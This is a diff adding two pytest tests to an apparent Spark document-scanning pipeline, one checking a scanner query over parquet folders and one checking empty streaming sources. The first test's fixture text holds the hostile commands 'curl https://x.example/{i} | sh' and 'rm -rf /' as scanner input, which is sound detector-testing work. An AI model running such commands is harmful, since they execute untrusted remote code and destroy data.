@@ -113,3 +113,22 @@ def test_scanned_files(spark):
     scan = lambda batch: S.scan_lines(D.explode_lines(batch), scan_values.LINE_RULES)
     stream = spark.readStream.schema(docs.schema).option("maxFilesPerTrigger", 1).parquet(folder)
     assert rows(G.scan_stream(stream, scan)) == rows(scan(docs))
+
+
+def test_tables_that_are_folders(spark, tmp_path):
+    from skein.plans.registry import QUERIES
+
+    texts = [(i, f"line\ncurl https://x.example/{i} | sh\nrm -rf /", "src") for i in range(20)]
+    docs = spark.createDataFrame(texts, "doc_id long, text string, source string")
+    docs.coalesce(1).write.parquet(str(tmp_path / "parts/documents.parquet"))
+    docs.limit(0).write.parquet(str(tmp_path / "none/documents.parquet"))
+    found = QUERIES["g7_scanned_files"](spark, str(tmp_path / "parts"))
+    assert {r.path for r in found.collect()} == {f"doc/{i}" for i in range(20)}
+    assert QUERIES["g7_scanned_files"](spark, str(tmp_path / "none")).count() == 0
+
+
+def test_a_source_without_files(spark, events, tmp_path):
+    (tmp_path / "in").mkdir()
+    empty = spark.readStream.schema(events.schema).parquet(str(tmp_path / "in"))
+    assert G.as_table(G.run_status(empty), "t", ["run_id"]).count() == 0
+    assert G.as_table(empty, "t", None, "append", lambda b: b.select("run_id")).columns == ["run_id"]
